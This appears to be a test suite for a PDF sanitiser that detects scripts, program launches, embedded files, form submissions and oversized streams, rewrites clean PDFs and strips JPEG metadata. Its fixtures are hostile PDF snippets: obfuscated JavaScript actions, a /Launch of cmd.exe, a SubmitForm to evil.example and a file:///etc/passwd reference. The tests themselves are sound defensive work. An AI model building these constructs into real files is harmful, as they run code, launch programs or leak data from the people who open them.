import { describe, expect, test } from 'vitest';
import { makePdf, makeStream, pageObjects } from '../../../../tests/worlds/pdf.ts';
import { withoutJpegMetadata } from './jpeg-metadata.ts';
import { readPdf } from './objects.ts';
import { rewritePdf } from './rewrite.ts';
import { assertHarmless } from './threats.ts';
import { THREATS } from './values.ts';

/** What is found in a PDF, or the new one. */
async function outcomeOf(pdf: Buffer): Promise<string | Buffer> {
  try {
    const file = readPdf(pdf);
    await assertHarmless(file);
    return rewritePdf(file);
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
}

/** Objects packed into a stream, as most PDFs have them today. */
function packed(objects: readonly string[], firstNumber: number): Buffer {
  let at = 0;
  const offsets = objects.map((object, index) => {
    const offset = `${firstNumber + index} ${at}`;
    at += object.length + 1;
    return offset;
  });
  const table = `${offsets.join(' ')} `;
  const entries = `/Type /ObjStm /N ${objects.length} /First ${table.length}`;
  return makeStream(`${table}${objects.join(' ')}`, entries);
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const FILE = makeStream('MZ', '/Type /EmbeddedFile', false);

describe('a PDF that does more than show pages is found out:', () => {
  const harmful: readonly (readonly [string, string, Buffer])[] = [
    ['a script at its opening', 'JAVASCRIPT', makePdf(pageObjects(`/OpenAction ${SCRIPT}`))],
    ['a script of a page', 'JAVASCRIPT', makePdf(pageObjects('', `/AA << /O ${SCRIPT} >>`))],
    [
      'a script by name',
      'JAVASCRIPT',
      makePdf(pageObjects('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>')),
    ],
    [
      'a script whose name is written otherwise',
      'JAVASCRIPT',
      makePdf(pageObjects('/OpenAction << /S /#4aavaScript /#4a#53 (x) >>')),
    ],
    ['a script that nothing leads to', 'JAVASCRIPT', makePdf([...pageObjects(), SCRIPT])],
    [
      'a script among packed objects',
      'JAVASCRIPT',
      makePdf([...pageObjects(), packed([SCRIPT], 9)]),
    ],
    [
      'a script behind a text that looks like the end',
      'JAVASCRIPT',
      makePdf(pageObjects(`/T (endobj \\( %) /OpenAction ${SCRIPT}`)),
    ],
    [
      'a script in a later version of the file',
      'JAVASCRIPT',
      Buffer.concat([makePdf(pageObjects()), makePdf(pageObjects(`/OpenAction ${SCRIPT}`))]),
    ],
    [
      'a program to start',
      'LAUNCH',
      makePdf(pageObjects('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    ],
    ['a file in it', 'EMBEDDED_FILE', makePdf([...pageObjects(), FILE])],
    [
      'a file pinned to a page',
      'EMBEDDED_FILE',
      makePdf(pageObjects('', '/Annots [<< /Subtype /FileAttachment >>]')),
    ],
    [
      'a form that is sent away',
      'SENDS_DATA',
      makePdf(pageObjects('/OpenAction << /S /SubmitForm /F (https://evil.example) >>')),
    ],
    ['a film', 'MEDIA', makePdf(pageObjects('', '/Annots [<< /Subtype /RichMedia >>]'))],
    ['a password', 'ENCRYPTED', makePdf(pageObjects(), '/Encrypt << /Filter /Standard >>')],
    [
      'a picture of 30,000 by 30,000 pixels',
      'TOO_LARGE_INSIDE',
      makePdf([
        ...pageObjects(),
        makeStream('', '/Subtype /Image /Width 30000 /Height 7 0 R'),
        '30000',
      ]),
    ],
    [
      'a stream packed twice',
      'TOO_LARGE_INSIDE',
      makePdf([...pageObjects(), makeStream('x', '/Filter [/FlateDecode /FlateDecode]', false)]),
    ],
  ];

  test.each(harmful)('%s', async (_, threat, pdf) => {
    expect(await outcomeOf(pdf)).toBe(threat);
  });

  test('every kind of it', () => {
    expect(new Set(harmful.map(([, threat]) => threat))).toEqual(new Set(THREATS));
  });
});

describe('a PDF that is written anew', () => {
  async function rewritten(pdf: Buffer): Promise<string> {
    const outcome = await outcomeOf(pdf);
    if (typeof outcome === 'string') throw new Error(outcome);
    return outcome.toString('latin1');
  }

  test('reads like the first one, again and again', async () => {
    const once = await rewritten(makePdf(pageObjects()));
    expect(await rewritten(Buffer.from(once, 'latin1'))).toHaveLength(once.length);
    expect(once).toContain('/MediaBox [0 0 300 200]');
    expect(once).toContain('/Helvetica');
  });

  test('has the pages of packed objects', async () => {
    const [catalog = '', pages = '', page = '', content = '', font = ''] = pageObjects();
    const objects = [
      'null',
      'null',
      'null',
      content,
      font,
      packed([catalog, pages, page].map(String), 1),
    ];
    expect(await rewritten(makePdf(objects))).toContain('/Helvetica');
  });

  test('leaves links, metadata, what lies outside and older versions behind', async () => {
    const old = makePdf([...pageObjects(), '(Ada Marlowe, older)']);
    const link =
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example) >> >>';
    const metadata = makeStream('<x:xmpmeta>Ada Marlowe</x:xmpmeta>', '/Type /Metadata', false);
    const newer = makePdf([
      ...pageObjects('/Metadata 6 0 R', `/Metadata 6 0 R /Annots [${link}]`),
      metadata,
    ]);
    const text = await rewritten(
      Buffer.concat([old, newer, Buffer.from('PK\x03\x04<script>Ada Marlowe</script>')]),
    );
    for (const gone of ['Ada Marlowe', 'evil', 'script', 'Metadata', 'PK\x03']) {
      expect(text).not.toContain(gone);
    }
  });

  test('shows what was filled in, as a stamp that does nothing', async () => {
    const field = '<< /Subtype /Widget /Rect [0 0 99 9] /F 4 /AP << /N 6 0 R >> /V (secret) >>';
    const looks = makeStream(
      '(Filled in) Tj',
      '/Type /XObject /Subtype /Form /BBox [0 0 99 9]',
      false,
    );
    const text = await rewritten(makePdf([...pageObjects('', `/Annots [${field}]`), looks]));
    expect(text).toContain('(Filled in) Tj');
    expect(text).toContain('/Subtype /Stamp');
    expect(text).not.toContain('/Widget');
  });

  test('takes nothing from other files', async () => {
    const outside = makeStream('', '/Subtype /Image /F (file:///etc/passwd) /FFilter /Fl', false);
    const objects = pageObjects();
    objects[3] = outside;
    expect(await rewritten(makePdf(objects))).not.toContain('passwd');
  });

  test('a text that never ends, a key without a value and half an object are no PDF', async () => {
    for (const broken of ['(never', '<< /Key >>', '<< /Key', '[1 2', '<12']) {
      const outcome = await outcomeOf(makePdf([...pageObjects(), broken]));
      expect(outcome).toMatch(/^(no |a string)/);
    }
  });
});

test('a picture loses what is said about it and keeps what is shown', () => {
  const segment = (marker: number, text: string) =>
    Buffer.concat([Buffer.of(0xff, marker, 0, text.length + 2), Buffer.from(text)]);
  const start = Buffer.of(0xff, 0xd8);
  const shown = Buffer.concat([
    segment(0xdb, 'tables'),
    segment(0xda, 'scan'),
    Buffer.from('pixels'),
  ]);
  const said = [segment(0xe1, 'Exif GPS'), segment(0xed, 'IPTC'), segment(0xfe, 'comment')];
  const jpeg = Buffer.concat([start, ...said, shown]);
  expect(withoutJpegMetadata(jpeg)).toEqual(Buffer.concat([start, shown]));
  expect(withoutJpegMetadata(Buffer.from('no picture'))).toEqual(Buffer.from('no picture'));
});
